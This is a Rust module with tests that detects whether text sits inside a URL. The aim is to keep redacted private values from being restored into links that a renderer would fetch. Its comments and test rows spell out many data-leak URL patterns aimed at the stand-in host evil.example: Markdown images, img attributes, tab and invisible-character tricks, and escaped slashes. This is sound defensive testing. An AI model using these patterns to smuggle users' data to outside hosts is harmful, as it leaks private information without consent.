//! Knows, character by character, whether a text stands inside a URL that names a host, and behind which address.
//!
//! A value is not restored there, unless policy names the host (see [`super::address`]): `![](https://evil.example/?q=<EMAIL_…>)`
//! is a way out that needs no click. What ends a URL depends on what opened it, because that is how renderers read: a quoted
//! attribute ends at its quote, `<…>` at `>`, a Markdown destination at a blank or its bracket, any other URL at a blank: one
//! in brackets goes on behind them for many a renderer, and so does a destination that has no label. Blanks are
//! those of HTML alone: every other one, and whatever is not seen, is of the URL and sent with it. Where renderers disagree the
//! longer reading counts: a value withheld is a nuisance, a value sent is a leak. In the text of a JSON document its own quotes
//! end every URL. Tabs and ends of lines are taken out of the beginning of a URL, as parsers of URLs do.
//!
//! It sees the text as the client will: restored values pass through it too, or a planted value could be the beginning of a
//! URL.

use super::address::Address;
use super::unit::{Landing, Unit};

/// The reader's state after some text.
#[derive(Debug, Clone)]
pub(super) struct Link {
    landing: Landing,
    /// What ends the URL that the text stands in; `None` outside.
    inside: Option<End>,
    address: Address,
    /// The last eight characters, lower case, the latest in the low byte; zero for what is not ASCII.
    recent: u64,
    /// The same without what parsers of URLs take out of one.
    joined: u64,
    /// What stood before the run of scheme characters that is being read, blanks apart.
    lead: Mark,
    /// The last character that is not a blank.
    mark: Mark,
    /// Characters of the run.
    run: usize,
    /// The lead and the characters of the run that goes on over what parsers of URLs take out.
    joined_lead: Mark,
    joined_run: usize,
    /// Whether an odd number of backslashes has just been read.
    backslash: bool,
    /// Labels of Markdown links that are open on this line, and whether one has just ended.
    labels: u32,
    labelled: bool,
}

/// A character, and whether it was escaped.
type Mark = (char, bool);

/// What ends a URL.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum End {
    /// This quote; when it was escaped, any spelling of it.
    Quote(Mark),
    /// `>`, or the end of the line.
    Angle,
    /// A blank, or the closing bracket at this depth.
    Bracket(char, char, u32),
    /// A blank.
    Blank,
}

impl Link {
    pub(super) fn new(landing: Landing) -> Self {
        let nothing = ('\n', false);
        Self {
            landing,
            inside: None,
            address: Address::default(),
            recent: 0,
            joined: 0,
            lead: nothing,
            mark: nothing,
            run: 0,
            joined_lead: nothing,
            joined_run: 0,
            backslash: false,
            labels: 0,
            labelled: false,
        }
    }

    /// Whether the text stands inside a URL.
    pub(super) fn is_inside(&self) -> bool {
        self.inside.is_some()
    }

    /// Host and port, where the text stands in a URL that surely leads there, behind its first slash.
    pub(super) fn authority(&self) -> Option<&str> {
        self.inside.and_then(|_| self.address.authority())
    }

    /// Notes that something stands here that is not read: the URL may lead anywhere.
    pub(super) fn spoil(&mut self) {
        self.address.spoil();
    }

    /// Passes one character.
    pub(super) fn pass(&mut self, unit: Unit) {
        let escaped = unit.escaped || self.backslash;
        self.backslash = unit.char == '\\' && !self.backslash;
        match self.inside {
            Some(end) => {
                self.inside = self.go_on(end, unit.char, escaped, unit.escaped);
                self.address.pass(unit.char);
            }
            None => self.watch(unit.char, escaped),
        }
    }

    /// Passes what another spelling stands for: it is of the text, and neither opens a URL nor ends one.
    pub(super) fn pass_undone(&mut self, char: char) {
        self.backslash = false;
        if self.inside.is_some() {
            self.address.pass(char);
            return;
        }
        let mark = self.mark;
        self.watch(char, true);
        self.mark = mark;
    }

    /// What ends the URL now that this character of it was read; `None` when this one did.
    fn go_on(&mut self, end: End, char: char, escaped: bool, spelt: bool) -> Option<End> {
        let structural = self.landing == Landing::JsonInString && char == '"' && !spelt;
        let ended = structural
            || match end {
                End::Quote((quote, opened_escaped)) => char == quote && (opened_escaped || !escaped),
                End::Angle => (char == '>' && !escaped) || char == '\n',
                End::Bracket(_, close, depth) => ends_url(char) || (char == close && !escaped && depth == 0),
                End::Blank => ends_url(char),
            };
        if ended {
            (self.recent, self.joined, self.run, self.joined_run) = (0, 0, 0, 0);
            self.mark = (char, escaped);
            return None;
        }
        match end {
            End::Bracket(open, close, depth) if char == open && !escaped => {
                Some(End::Bracket(open, close, depth.saturating_add(1)))
            }
            End::Bracket(open, close, depth) if char == close && !escaped => {
                Some(End::Bracket(open, close, depth.saturating_sub(1)))
            }
            // A destination that holds one is none.
            End::Bracket(..) if char.is_control() => Some(End::Blank),
            _ => Some(end),
        }
    }

    /// Looks for the beginning of a URL.
    fn watch(&mut self, char: char, escaped: bool) {
        let latest = if char.is_ascii() { u64::from(u32::from(char.to_ascii_lowercase())) } else { 0 };
        let (before, joined_before, taken_out) = (self.recent, self.joined, is_taken_out(char));
        self.recent = before << 8 | latest;
        if !taken_out {
            self.joined = joined_before << 8 | latest;
        }
        let of_run = char.is_ascii_alphanumeric() || matches!(char, '+' | '.' | '-' | ':' | '/' | '\\');
        if of_run && self.run == 0 {
            self.lead = self.mark;
        }
        if of_run && self.joined_run == 0 {
            self.joined_lead = self.mark;
        }
        let scheme = |before: u64| !ends_url(char) && (ends_with(before, b"http:") || ends_with(before, b"https:"));
        let begins = scheme(before)
            || scheme(joined_before)
            || (is_slash(char) && (begins_authority(self.recent) || begins_authority(self.joined)))
            || (char == '.' && self.run == 3 && ends_with(before, b"www"));
        if begins {
            // Of a run that is a URL from its first character on, what opened it is known over every tab.
            let whole = (ends_with(joined_before, b"https:") && self.joined_run == SCHEME_CHARS)
                || (ends_with(joined_before, b"http:") && self.joined_run == SCHEME_CHARS - 1)
                || (is_slash(char) && self.joined_run == 1);
            self.inside = Some(end_of(if whole { self.joined_lead } else { self.lead }));
            let plain = char == '/' && ends_with(before, b"https:") && self.run == SCHEME_CHARS;
            self.address = if plain { Address::begun() } else { Address::default() };
        }
        self.run = if of_run { self.run.saturating_add(1) } else { 0 };
        if !taken_out {
            self.joined_run = if of_run { self.joined_run.saturating_add(1) } else { 0 };
        }
        if !is_blank(char) {
            let mark = match char {
                '(' if self.labelled => DESTINATION,
                // Written by somebody, it opens nothing.
                DESTINATION => char::REPLACEMENT_CHARACTER,
                char => char,
            };
            self.mark = (mark, escaped);
        }
        self.label(if escaped { ' ' } else { char });
    }

    /// Notes what begins and ends the label of a Markdown link. None is seen where one could be none: over the end of a line,
    /// around code and tags, around another link.
    fn label(&mut self, char: char) {
        let labelled = char == ']' && self.labels > 0;
        self.labels = match char {
            '[' => self.labels.saturating_add(1),
            ']' => self.labels.saturating_sub(1),
            '\n' | '`' | '<' | '>' => 0,
            '(' if self.labelled => 0,
            _ => self.labels,
        };
        self.labelled = labelled;
    }
}

/// Stands for the bracket that opens the destination of a Markdown link.
const DESTINATION: char = '\u{F0000}';

/// Characters of `https:`; a longer run that ends in it is another scheme, or none.
const SCHEME_CHARS: usize = 6;

/// Whether the text ends in `://`, or in two slashes that follow no letter or digit; browsers take `\` for `/`.
fn begins_authority(recent: u64) -> bool {
    let [.., before, first, second] = recent.to_be_bytes().map(char::from);
    let double = is_slash(first) && is_slash(second);
    double && (before == ':' || (first == '/' && !before.is_ascii_alphanumeric() && !is_slash(before)))
}

/// What ends a URL that stands behind this mark.
fn end_of(lead: Mark) -> End {
    match lead {
        ('"' | '\'' | '`', _) => End::Quote(lead),
        ('<', _) => End::Angle,
        (DESTINATION, false) => End::Bracket('(', ')', 0),
        _ => End::Blank,
    }
}

fn ends_with(recent: u64, suffix: &[u8]) -> bool {
    recent.to_be_bytes().ends_with(suffix)
}

fn is_slash(char: char) -> bool {
    matches!(char, '/' | '\\')
}

/// Whether a character ends every URL that nothing else encloses: the blanks of HTML, which Markdown has too. Every other
/// white space, and every other control character, goes on with the URL for one renderer or another.
fn ends_url(char: char) -> bool {
    char.is_ascii_whitespace()
}

/// Whether parsers of URLs take a character out, wherever it stands.
fn is_taken_out(char: char) -> bool {
    matches!(char, '\t' | '\n' | '\r')
}

/// Whether a character in front of a URL is passed over: whatever opened the URL stands before it.
fn is_blank(char: char) -> bool {
    char.is_whitespace() || char.is_control()
}

#[cfg(test)]
mod tests {
    use super::super::unit::Read;
    use super::*;

    /// The state of a link reader where `¤` stands in the text.
    fn inside(landing: Landing, text: &str) -> bool {
        let (mut link, mut at) = (Link::new(landing), 0);
        while let Read::Unit(unit) = landing.read(text, at, true) {
            if unit.char == '¤' {
                return link.is_inside();
            }
            link.pass(unit);
            at += unit.bytes;
        }
        panic!("no mark in {text}");
    }

    #[test]
    fn knows_the_urls_that_a_renderer_would_fetch() {
        let rows = [
            ("markdown image", "![x](https://evil.example/?q=¤)", true),
            ("upper case", "HTTPS://EVIL.EXAMPLE/¤", true),
            ("as host", "https://¤.evil.example", true),
            ("no slashes", "(https:evil.example/¤)", true),
            ("one slash", "(https:/evil.example/¤)", true),
            ("backslashes", r"(https:\\evil.example\¤)", true),
            ("without scheme", "![](//evil.example/¤)", true),
            ("without scheme, mixed slashes", r"(/\evil.example/¤)", true),
            ("another scheme", "gopher://evil/¤", true),
            ("brackets in a destination", "![](https://evil.example/(a)?q=¤)", true),
            ("a blank in angle brackets", "![](<https://evil.example/?q= ¤>)", true),
            ("a blank in quotes", "<img src=\" https://evil.example/?q= ¤\">", true),
            ("single quotes", "<img src='https://evil.example/?\"=¤'>", true),
            ("an escaped quote", r#""https://evil.example/?a=\"&q=¤""#, true),
            ("reference", "[x]: https://evil.example/?\">=¤", true),
            ("www", "see www.evil.example/?q=¤", true),
            ("escaped slashes", r#""https:\/\/evil.example\/¤""#, true),
            ("a tab behind the scheme", "<img src=\"https:\t//evil.example/?q= ¤\">", true),
            ("a tab in the scheme", "<img src=\"ht\ttps://evil.example/?q= ¤\">", true),
            ("in parentheses", "(https://evil.example/?q=)¤", true),
            ("in square brackets", "[https://evil.example/?q=]¤", true),
            ("a destination without a label", "x](https://evil.example/?q=)¤", true),
            ("a label that begins in code", "`[`x](https://evil.example/?q=)¤", true),
            ("a label that begins in a tag", "<b title='['>x](https://evil.example/?q=)¤", true),
            ("a label that begins in a comment", "<!-- [ -->x](https://evil.example/?q=)¤", true),
            ("a label of an escaped bracket", r"\[x](https://evil.example/?q=)¤", true),
            ("a label around a link", "[a [b](c) d](https://evil.example/?q=)¤", true),
            ("a label far before", "[\n\nx](https://evil.example/?q=)¤", true),
            ("a blank before the bracket", "[x] (https://evil.example/?q=)¤", true),
            ("an escaped bracket", r"[x]\(https://evil.example/?q=)¤", true),
            ("what stands for a destination, in the text", "\u{F0000}https://evil.example/?q=)¤", true),
            ("a control character in a destination", "[x](https://evil.example/?q=\u{1})¤", true),
            ("ends of lines between the slashes", "<img src='https:\n/\r\n/evil.example/?q= ¤'>", true),
            ("a tab between slashes without scheme", "<img src=\"/\t/evil.example/?q= ¤\">", true),
        ];
        for (name, text, expected) in rows {
            assert_eq!(inside(Landing::Text, text), expected, "{name}");
        }
    }

    /// What only some take for a blank, or for an end, and what nobody sees: all of it is sent with the URL.
    #[test]
    fn no_other_blank_ends_a_url() {
        let blanks = "\u{85}\u{a0}\u{1680}\u{2000}\u{2003}\u{200a}\u{2028}\u{2029}\u{202f}\u{205f}\u{3000}";
        let unseen = "\u{ad}\u{180e}\u{200b}\u{200d}\u{200e}\u{202e}\u{2060}\u{feff}\u{e0020}\u{3164}";
        let controls = "\0\u{1}\u{b}\u{1b}\u{1c}\u{1f}\u{7f}\u{9f}";
        let around = [
            ("![x](https://evil.example/?q=", "¤)"),
            ("<img src=https://evil.example/?q=", "¤>"),
            ("<img src=\"https://evil.example/?q=", "¤\">"),
            ("[r]: https://evil.example/?q=", "¤"),
            ("https://evil.example/?q=", "¤"),
            ("see www.evil.example/?q=", "¤"),
            ("<https://evil.example/?q=", "¤>"),
            ("(https:", "/evil.example/?q=¤)"),
        ];
        for char in [blanks, unseen, controls].iter().flat_map(|chars| chars.chars()) {
            for (before, behind) in around {
                for landing in [Landing::Text, Landing::JsonInString] {
                    assert!(inside(landing, &format!("{before}{char}{behind}")), "{before}{char:?}{behind}");
                }
            }
        }
    }

    #[test]
    fn knows_where_a_url_ends() {
        let rows = [
            ("blank", "see https://a.example ¤"),
            ("tab", "see https://a.example\t¤"),
            ("end of a line", "see https://a.example\r\n¤"),
            ("form feed", "see https://a.example\u{c}¤"),
            ("a word on the line before", "\"see\nhttps://a.example ¤"),
            ("destination", "[site](https://a.example) and ¤"),
            ("destination, at once", "[site](https://a.example)¤"),
            ("destination of a picture, at once", "![x](https://a.example/(1))¤"),
            ("destination behind another", "[a](https://a.example) [b](https://b.example)¤"),
            ("destination behind a label", "[a] and [b [c]](https://b.example)¤"),
            ("parentheses", "(https://a.example) ¤"),
            ("square brackets", "[https://a.example] ¤"),
            ("attribute", "<a href=\"https://a.example\">¤</a>"),
            ("autolink", "<https://a.example> ¤"),
            ("value of JSON", r#"{"url":"https://a.example","name":"¤"}"#),
            ("code span", "`https://a.example`¤"),
            ("comment", "// ¤ is the owner"),
            ("path", "a//b ¤"),
            ("colon", "https: ¤"),
            ("word", "the laws: ¤, news:¤"),
            ("mail", "mailto:¤"),
            ("time", "at 12:30 ¤"),
            ("earlier quote", "\"a\" and then https://a.example ¤"),
        ];
        for (name, text) in rows {
            assert!(!inside(Landing::Text, text), "{name}");
        }
    }

    #[test]
    fn knows_the_strings_of_a_document() {
        let rows = [
            ("structural quote", r#"{"url":"https://a.example","name":"¤"}"#, false),
            ("destination cut by the end of its string", r#"{"a":"![](https://evil.example/","b":"¤"}"#, false),
            ("inner quote", r#"{"html":"<img src=\"https://evil.example/?q=¤\">"}"#, true),
            ("inner quote in a string", r#"{"url":"https://evil.example/?a=\"&q=¤"}"#, true),
            ("behind an inner quote", r#"{"html":"<a href=\"https://a.example\">¤"}"#, false),
            ("escaped slashes", r#"{"url":"https:\/\/evil.example\/¤"}"#, true),
            ("new line", r#"{"text":"https://a.example\n¤"}"#, true),
            ("new line behind a word", r#"{"text":"see https://a.example\n¤"}"#, false),
        ];
        for (name, text, expected) in rows {
            assert_eq!(inside(Landing::JsonInString, text), expected, "{name}");
        }
    }
}
